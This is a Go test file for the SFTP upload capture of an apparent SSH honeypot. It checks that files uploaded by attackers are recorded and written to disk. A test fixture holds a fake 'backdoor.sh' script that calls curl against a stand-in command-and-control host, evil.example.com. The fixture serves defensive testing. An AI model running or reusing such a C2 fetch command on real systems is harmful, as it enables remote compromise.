package sftp

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/websoft9/honeyshell/internal/persistence"
	"github.com/websoft9/honeyshell/internal/session"
)

func TestUploadHandleCapturesWritesAndRecordsOnClose(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "backdoor.sh")

	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE, 0o666)
	if err != nil {
		t.Fatal(err)
	}

	gw := persistence.NewMemoryGateway()
	sessionID, _ := gw.CreateSession(context.Background(), "203.0.113.9", 4444, "root", "x", session.AuthPassword)

	content := []byte("#!/bin/bash\necho 'This is a captured malware sample'\ncurl http://evil.example.com/c2\n")
	h := &uploadHandle{file: f, filename: "backdoor.sh", sessionID: sessionID, gw: gw}

	n, err := h.WriteAt(content, 0)
	if err != nil || n != len(content) {
		t.Fatalf("WriteAt: n=%d err=%v", n, err)
	}
	if err := h.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}

	uploads := gw.Uploads(sessionID)
	if len(uploads) != 1 {
		t.Fatalf("got %d upload records, want 1", len(uploads))
	}
	if uploads[0].Filename != "backdoor.sh" || uploads[0].SizeBytes != int64(len(content)) {
		t.Errorf("unexpected upload record: %+v", uploads[0])
	}

	onDisk, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(onDisk) != string(content) {
		t.Errorf("on-disk content mismatch")
	}
}

func TestUploadHandleNoWritesRecordsNothing(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "empty.txt")
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE, 0o666)
	if err != nil {
		t.Fatal(err)
	}

	gw := persistence.NewMemoryGateway()
	sessionID, _ := gw.CreateSession(context.Background(), "203.0.113.9", 4444, "root", "x", session.AuthPassword)

	h := &uploadHandle{file: f, filename: "empty.txt", sessionID: sessionID, gw: gw}
	if err := h.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}

	if got := gw.Uploads(sessionID); len(got) != 0 {
		t.Errorf("got %d upload records for zero-write handle, want 0", len(got))
	}
}
